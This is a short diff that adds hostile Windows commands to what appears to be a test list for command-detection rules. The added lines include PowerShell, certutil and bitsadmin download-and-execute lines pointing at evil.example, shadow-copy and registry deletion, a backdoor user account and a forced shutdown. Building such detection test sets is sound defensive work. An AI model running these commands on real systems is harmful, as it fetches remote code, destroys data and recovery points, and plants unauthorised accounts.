@@ -8,3 +8,11 @@ rd /s /q "%DIR%\"
 certutil -urlcache -f http://x.example y
 schtasks /create /tn x /tr y
 mshta http://x.example
+#: written by a fresh eye, before the rules were looked at
+shutdown /s /t 0
+net user eve Passw0rd /add
+powershell -nop -w hidden -c "iex (iwr http://evil.example/x)"
+reg delete HKLM\SOFTWARE /f
+vssadmin delete shadows /all
+certutil -urlcache -f http://evil.example/x.exe x.exe & x.exe
+bitsadmin /transfer j http://evil.example/x.exe C:\x.exe & start C:\x.exe
